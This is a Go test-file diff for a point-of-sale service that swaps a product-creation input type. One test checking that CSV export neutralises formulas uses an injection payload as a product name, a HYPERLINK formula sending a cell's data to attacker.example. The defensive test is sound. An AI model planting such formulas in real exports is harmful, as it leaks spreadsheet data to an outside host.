@@ -6,7 +6,6 @@ import (
 	"strings"
 	"testing"
 
-	"github.com/pandac/pandac/ent"
 	"github.com/pandac/pandac/ent/payment"
 	"github.com/pandac/pandac/internal/money"
 	"github.com/pandac/pandac/internal/pos"
@@ -24,7 +23,7 @@ func TestVoidThroughRESTNeedsTheTillRule(t *testing.T) {
 		svc := pos.New(db.Client)
 		ctx := context.Background()
 		qty, price := int64(5), money.MustParse("2.00")
-		p, err := svc.CreateProduct(ctx, ent.CreateProductInput{Name: "Tea", Sku: "T-1", Price: &price}, pos.StockInput{Quantity: &qty})
+		p, err := svc.CreateProduct(ctx, pos.CreateProductRequest{Name: "Tea", Sku: "T-1", Price: &price}, pos.StockInput{Quantity: &qty})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -51,7 +50,7 @@ func TestCSVExportNeutralisesFormulas(t *testing.T) {
 		svc := pos.New(db.Client)
 		qty, price := int64(5), money.MustParse("2.00")
 		name := `=HYPERLINK("http://attacker.example/?d="&A1,"Click")`
-		if _, err := svc.CreateProduct(context.Background(), ent.CreateProductInput{Name: name, Sku: "@SKU", Price: &price}, pos.StockInput{Quantity: &qty}); err != nil {
+		if _, err := svc.CreateProduct(context.Background(), pos.CreateProductRequest{Name: name, Sku: "@SKU", Price: &price}, pos.StockInput{Quantity: &qty}); err != nil {
 			t.Fatal(err)
 		}
 		r := c.get("/v1/reports/inventory/stock-levels?format=csv", nil)
